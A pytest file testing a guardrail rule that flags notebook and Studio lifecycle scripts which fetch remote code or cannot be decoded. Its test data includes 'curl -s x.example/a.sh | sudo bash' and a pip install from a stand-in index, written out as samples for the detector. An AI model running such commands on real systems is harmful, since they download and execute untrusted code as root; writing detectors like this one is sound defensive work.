"""SMK7."""

import base64

import pytest

from guardrails.ml_lens.examples import one
from guardrails.ml_lens.notebook_scripts import NOTEBOOK, RULE, STUDIO


def encoded(script):
    return base64.b64encode(script.encode()).decode()


@pytest.mark.parametrize(
    "script", ["curl -s x.example/a.sh | sudo bash", "pip install -i https://x.example a"]
)
def test_a_script_that_fetches_is_found(found_in, script):
    assert len(found_in(RULE, one(NOTEBOOK, OnCreate=[{"Content": encoded(script)}]))) == 1
    assert len(found_in(RULE, one(STUDIO, StudioLifecycleConfigContent=encoded(script)))) == 1


def test_a_script_that_cannot_be_read_is_found(found_in):
    for content in ("no base64!", {"Fn::ImportValue": "script"}):
        assert len(found_in(RULE, one(STUDIO, StudioLifecycleConfigContent=content))) == 1


def test_a_script_that_brings_nothing_passes(found_in):
    assert found_in(RULE, one(STUDIO, StudioLifecycleConfigContent=encoded("umask 077"))) == []
